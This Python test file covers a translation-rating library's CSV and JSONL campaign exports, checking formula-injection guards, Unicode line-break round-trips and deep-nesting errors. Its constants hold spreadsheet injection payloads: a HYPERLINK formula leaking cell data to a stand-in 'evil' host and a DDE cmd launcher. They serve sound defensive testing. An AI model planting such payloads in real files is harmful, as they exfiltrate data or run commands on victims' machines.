"""Campaign exports read back what was written, and a spreadsheet opening them runs no formula.

The Appraise ESA CSV (``esa_csv``) guards the judge, system and document cells against spreadsheet formulas
by default, without changing plain names (the WMT24 reader reads it back); the Pearmut JSONL reader splits
lines on ``\\n`` only, so a translation holding U+2028 or a form feed reads back, and JSON nested too deeply
is a message naming the line, not a traceback.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from bleu_core.campaigns.exports import campaign_jsonl, esa_csv, read_campaign_jsonl
from bleu_core.campaigns.model import CampaignError, Item, StoredRating
from bleu_core.campaigns.protocols import MarkedSpan, StoredSpan
from bleu_core.csv_safety import formula_risk
from bleu_core.study.formats.esa import read_esa

T = datetime(2024, 8, 20, tzinfo=UTC)
EVIL_JUDGE = '=HYPERLINK("http://evil/"&A1,"x")'
EVIL_DOC = "doc;=cmd|' /C calc'!A0"


def _rating(judge: str, position: int, system: str, segment: str, score: int) -> StoredRating:
    return StoredRating("K7P2QX", judge, "g", position, segment, system, "esa", score, T, T)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_esa_csv_guards_judge_system_and_document_cells():
    items = [Item(0, "s1", "@SUM(A1)", "the cat sat")]
    ratings = [_rating(EVIL_JUDGE, 0, "@SUM(A1)", "s1", 70)]
    spans = [StoredSpan("K7P2QX", EVIL_JUDGE, "g", 0, "s1", "@SUM(A1)", MarkedSpan(4, 7, "major"))]
    kwargs = {"segment_ids": ["s1"], "pair": "en-de", "documents": {"s1": EVIL_DOC}}
    (row,) = _rows(esa_csv(items, ratings, spans, **kwargs))
    judge, system, doc = row[0], row[1], row[7]
    assert (judge, system, doc) == ("'" + EVIL_JUDGE, "'@SUM(A1)", "doc;'=cmd|' /C calc'!A0")
    assert not any(formula_risk(cell, keep_numbers=False) for cell in (judge, system, doc))
    (verbatim,) = _rows(esa_csv(items, ratings, spans, guard_formulas=False, **kwargs))
    assert (verbatim[0], verbatim[1], verbatim[7]) == (EVIL_JUDGE, "@SUM(A1)", EVIL_DOC)


def test_the_guard_keeps_plain_names_and_the_wmt24_reader_reads_them_back():
    texts = {"A": ["the cat sat", "a dog ran"], "sys B, v2": ["cat the sat", "dog a ran"]}
    judges = ["Ana", "Bo, Jr.", "Zoë", 'Dee "D" Smith']
    pairs = [(seg, system) for seg in (0, 1) for system in texts]
    items = [
        Item(i, f"s{seg + 1}", system, texts[system][seg]) for i, (seg, system) in enumerate(pairs)
    ]
    ratings = [
        _rating(j, it.position, it.system, it.segment_id, 10 * n + it.position)
        for n, j in enumerate(judges)
        for it in items
    ]
    spans = [StoredSpan("K7P2QX", "Zoë", "g", 0, "s1", "A", MarkedSpan(4, 7, "minor"))]
    args = (items, ratings, spans)
    kwargs = {"segment_ids": ["s1", "s2"], "pair": "en-de", "documents": {"s1": "doc-1"}}
    guarded = esa_csv(*args, **kwargs)
    assert guarded == esa_csv(*args, guard_formulas=False, **kwargs)
    got = read_esa(
        guarded, "c.csv", pair="en-de", segment_ids=["s1", "s2"], texts=texts, line_offset=0
    )
    assert sorted((r.rater, r.system, r.segment_id, r.score) for r in got.ratings) == sorted(
        (r.judge, r.system, r.segment_id, float(r.score)) for r in ratings
    )
    assert [(s.rater, s.system, s.start, s.end) for s in got.spans] == [("Zoë", "A", 4, 7)]


@pytest.mark.parametrize("sign", ["\u2028", "\u2029", "\x0c", "\x0b", "\x1c", "\x85"])
def test_the_jsonl_export_reads_back_a_translation_holding_a_unicode_line_break(sign):
    text = f"the cat{sign}sat"
    items = [Item(0, "s1", "A", text, source=f"src{sign}1"), Item(1, "s2", "A", "a dog")]
    ratings = [_rating("Ana", 0, "A", "s1", 70), _rating("Ana", 1, "A", "s2", 40)]
    spans = [StoredSpan("K7P2QX", "Ana", "g", 0, "s1", "A", MarkedSpan(8, 11, "major"))]
    log = campaign_jsonl(items, ratings, spans)
    assert log.count("\n") == 2  # one line per item
    assert (sign in log) == (sign >= "\x85")  # json.dumps writes control characters as \u escapes
    records = read_campaign_jsonl(log, "c.jsonl")
    assert [(r["item_id"], r["tgt"], r["src"], r["scores"]) for r in records] == [
        ("s1", text, f"src{sign}1", {"esa": 70}),
        ("s2", "a dog", None, {"esa": 40}),
    ]
    assert records[0]["error_spans"] == [MarkedSpan(8, 11, "major")]


def test_deeply_nested_jsonl_is_a_message_naming_the_line():
    good = json.dumps({"user_id": "Ana", "item_i": 0, "item": [], "annotation": []})
    deep = "[" * 100_000 + "]" * 100_000
    with pytest.raises(CampaignError, match=r"^x\.jsonl, line 2: JSON nested too deeply to read"):
        read_campaign_jsonl(good + "\n" + deep + "\n", "x.jsonl")
